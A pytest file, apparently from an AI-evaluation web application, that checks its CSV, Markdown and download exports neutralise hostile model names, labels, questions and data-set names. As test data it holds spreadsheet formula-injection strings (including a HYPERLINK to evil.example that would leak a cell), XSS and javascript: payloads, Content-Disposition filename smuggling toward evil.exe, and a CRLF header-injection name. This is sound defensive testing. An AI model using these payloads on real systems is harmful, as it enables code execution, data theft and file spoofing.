"""The second probe's export findings (security issue 24, finding 5 and the export items of 6),
through the real endpoints:

- the grading CSV wrote question texts and model names raw (spreadsheet formulas), while the
  other CSVs were neutralised: every CSV of every app goes through one writer now;
- the leaderboard and study Markdown exports carried raw HTML and ``javascript:`` links from
  model labels: one Markdown writer makes every cell literal text, the table stays whole;
- a preference data set's name went unquoted into Content-Disposition (``filename*=`` in a name
  chose the saved file's name): every download builds the header with Django's builder.

Hostile names are written to rows with the ORM, as rows that predate any check on names would
hold them; everything else is made through the services.
"""

from __future__ import annotations

import csv
import io
from email.message import Message

import pytest
from django.utils.http import content_disposition_header, parse_header_parameters

from annotation.loop.votes import vote_record
from annotation.studies import study_open
from evalsite.exports import file_name
from generation.importers import ParsedQuestion
from generation.models import LanguageModel, PreferenceDataset
from generation.training.preferences import preference_dataset_create
from tests.annotation.conftest import take_pair
from tests.annotation.judged import judge_model
from tests.conftest import logged_in
from tests.export_checks import (
    delimiters,
    flat,
    formula_cells,
    hostile_tags,
    read_html,
    render,
    table_lines,
)
from tests.judging.factories import grading_run, judge_study

pytestmark = pytest.mark.django_db

# Model names and display labels, question texts and categories, a vote's comment: each starts
# a spreadsheet formula, and the names and labels also carry markup, links, pipes, line breaks.
NAMES = [
    "=cmd|' /C calc'!A0 <img src=x onerror=alert(1)>",
    "@SUM(1+1) [x](javascript:alert(1)) a|b",
    "+1+1 ![i](javascript:alert(2))\nnext line",
]
LABELS = [
    "-2+3 <img src=x onerror=alert(1)> [x](javascript:alert(1)) a|b\nc",
    '=HYPERLINK("https://evil.example") <script>alert(3)</script>',
    "@label | pipe *bold* `code`",
]
QUESTIONS = ["=1+1 朝の散歩は？", "+SUM(A1) 睡眠のこつは？", "-2+3 食事は？", "@A1 運動は？"]
CATEGORY = "@SUM(1)*cmd|' /C calc'!A0"
COMMENT = '=HYPERLINK("https://evil.example/?"&A1,"click")'
# A carriage return inside a cell: written unquoted, a reader starts a new row there, and that
# row's first cell would be a formula.
CR_COMMENT = "looks fine\r@SUM(1+1)*cmd|' /C calc'!A0"


class Hostile:
    def __init__(self, study, grading):
        self.study, self.grading = study, grading

    def url(self, template: str) -> str:
        return template.format(study=self.study.pk, grading=self.grading.pk)


@pytest.fixture
def hostile(annotator) -> Hostile:
    """Three models, four questions, one person's vote on every comparison (the first two with
    comments), a grading run that scores every answer; then the hostile names and labels."""
    questions = [
        ParsedQuestion(line=p, text=text, category=CATEGORY)
        for p, text in enumerate(QUESTIONS, start=1)
    ]
    study = judge_study(models=3, questions=questions)
    study_open(study=study)
    n = 0
    while (assignment := take_pair(study, annotator)) is not None:
        vote_record(
            assignment=assignment,
            choice=("left", "right", "tie")[n % 3],
            comment={0: COMMENT, 1: CR_COMMENT}.get(n, ""),
        )
        n += 1
    scores = {(m, p): 5 - m - (p % 2) for m in range(3) for p in range(1, len(QUESTIONS) + 1)}
    grading = grading_run(study, judge_model(), scores)
    for study_run, name, label in zip(
        study.study_runs.select_related("model").order_by("pk"), NAMES, LABELS, strict=True
    ):
        LanguageModel.objects.filter(pk=study_run.model_id).update(name=name, display_label=label)
    return Hostile(study, grading)


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- 5. the grading CSV ---------------------------------------------------------------------------


def test_the_grading_csv_neutralises_question_texts_and_model_names(hostile, admin_user):
    response = logged_in(admin_user).get(
        f"/api/judge-runs/{hostile.grading.pk}/grades/", {"format": "csv"}
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    assert formula_cells(text) == []
    rows = _csv_rows(text)
    assert rows[0] == ["position", "turn", "question", *(f"'{name}" for name in NAMES)]
    assert [row[2] for row in rows[1:]] == [f"'{question}" for question in QUESTIONS]
    assert rows[1][3:] == ["4", "3", "2"]  # scores stay numbers
    expected = f"judge-run-{hostile.grading.pk}-grades.csv"
    assert response["Content-Disposition"] == content_disposition_header(True, expected)


# --- 5. every CSV endpoint of every app -----------------------------------------------------------

CSV_EXPORTS = [
    "/api/judge-runs/{grading}/grades/?format=csv",
    "/api/studies/{study}/export/csv/",
    "/api/studies/{study}/export/strengths/",
    "/api/studies/{study}/export/votes/",
    "/api/studies/{study}/export/votes/?provenance=1",
    "/studies/{study}/results/download/csv/",
    "/studies/{study}/results/download/strengths/",
    "/studies/{study}/results/download/votes/",
    "/studies/{study}/results/download/votes/?voters=all&provenance=1",
    "/staff/leaderboard/export/?format=csv&study={study}&grading={grading}",
]


@pytest.mark.parametrize("template", CSV_EXPORTS)
def test_no_csv_export_carries_a_cell_a_spreadsheet_would_run(hostile, admin_user, template):
    response = logged_in(admin_user).get(hostile.url(template))

    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    assert formula_cells(text) == []
    cells = {cell for row in _csv_rows(text) for cell in row}
    # The hostile text did reach the export: each name (or its label) is there, made inert.
    for name, label in zip(NAMES, LABELS, strict=True):
        assert f"'{name}" in cells or f"'{label}" in cells, (name, sorted(cells)[:20])
    kind, params = parse_header_parameters(response["Content-Disposition"])
    assert kind == "attachment"
    assert response["Content-Disposition"] == content_disposition_header(True, params["filename"])


def test_the_votes_export_keeps_each_hostile_value_only_made_inert(hostile, admin_user):
    response = logged_in(admin_user).get(hostile.url("/api/studies/{study}/export/votes/"))

    rows = _csv_rows(response.content.decode())
    cells = {cell for row in rows for cell in row}
    for value in (*QUESTIONS, CATEGORY, COMMENT):
        assert f"'{value}" in cells
    assert CR_COMMENT in cells  # one cell, kept as it was
    assert {len(row) for row in rows} == {len(rows[0])}


# --- 6. Markdown exports --------------------------------------------------------------------------

MARKDOWN_EXPORTS = [
    "/staff/leaderboard/export/?format=md&study={study}&grading={grading}",
    "/api/studies/{study}/export/md/",
    "/studies/{study}/results/download/md/",
]


@pytest.mark.parametrize("template", MARKDOWN_EXPORTS)
def test_markdown_exports_show_hostile_labels_as_text_in_whole_tables(
    hostile, admin_user, template
):
    response = logged_in(admin_user).get(hostile.url(template))

    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/markdown")
    markdown = response.content.decode()
    for forbidden in ("<img", "<script", "](", "javascript:"):
        assert forbidden not in markdown
    html = render(markdown)
    assert hostile_tags(html) == []
    # Every table line has as many cell delimiters as its header, and renders so.
    blocks = table_lines(markdown)
    assert blocks
    for block in blocks:
        assert len({delimiters(line) for line in block}) == 1, block
    tables = read_html(html).tables
    assert len(tables) == len(blocks)
    shown = set()
    for table, block in zip(tables, blocks, strict=True):
        assert len(table) == len(block) - 1  # the delimiter row is no row
        assert {len(row) for row in table} == {delimiters(block[0]) - 1}
        shown |= {cell for row in table[1:] for cell in row}
    # Each model is shown by its label (the leaderboard, and results where labels are unique),
    # exactly as written but for the line break a table cell cannot hold.
    for label in LABELS:
        assert any(flat(label) in cell for cell in shown), (label, shown)


# --- 6. Content-Disposition of the preference data set download -----------------------------------

DATASET_NAMES = [
    "autumn\"; filename*=UTF-8''evil.exe; x=\"y",
    "秋の投票\"; filename*=UTF-8''evil.exe; filename=\"evil.exe",
]
DOWNLOADS = [
    "/api/preference-datasets/{pk}/jsonl/",
    "/admin/generation/preferencedataset/{pk}/pairs.jsonl",
]


def _dataset(name: str) -> PreferenceDataset:
    dataset = preference_dataset_create(
        name=f"prefs-{abs(hash(name))}",
        pairs=[
            {"prompt": f"問い{i}", "chosen": "丁寧に。", "rejected": "さあ。"} for i in range(2)
        ],
    )
    PreferenceDataset.objects.filter(pk=dataset.pk).update(name=name)
    return dataset


def _filename_parameters(header: str) -> list[tuple[str, object]]:
    message = Message()
    message["Content-Disposition"] = header
    return [(k, v) for k, v in message.get_params(header="content-disposition") if "filename" in k]


@pytest.mark.parametrize("template", DOWNLOADS)
@pytest.mark.parametrize("name", DATASET_NAMES)
def test_a_data_set_name_cannot_choose_the_downloaded_files_name(admin_user, template, name):
    dataset = _dataset(name)

    response = logged_in(admin_user).get(template.format(pk=dataset.pk))

    assert response.status_code == 200
    expected = f"{name}.jsonl"
    header = response["Content-Disposition"]
    assert header == content_disposition_header(True, expected)
    assert len(_filename_parameters(header)) == 1  # one filename parameter, whatever the name
    message = Message()
    message["Content-Disposition"] = header
    assert message.get_filename() == expected
    assert parse_header_parameters(header) == ("attachment", {"filename": expected})


@pytest.mark.parametrize("template", DOWNLOADS)
def test_a_line_break_or_direction_override_in_a_name_is_no_broken_header(admin_user, template):
    name = "votes\r\nSet-Cookie: x=1\u202eLSX.jsonl"
    dataset = _dataset(name)

    response = logged_in(admin_user).get(template.format(pk=dataset.pk))

    assert response.status_code == 200
    expected = "votes__Set-Cookie: x=1_LSX.jsonl.jsonl"
    assert file_name(f"{name}.jsonl") == expected
    assert response["Content-Disposition"] == content_disposition_header(True, expected)
    assert "Set-Cookie" not in response.cookies
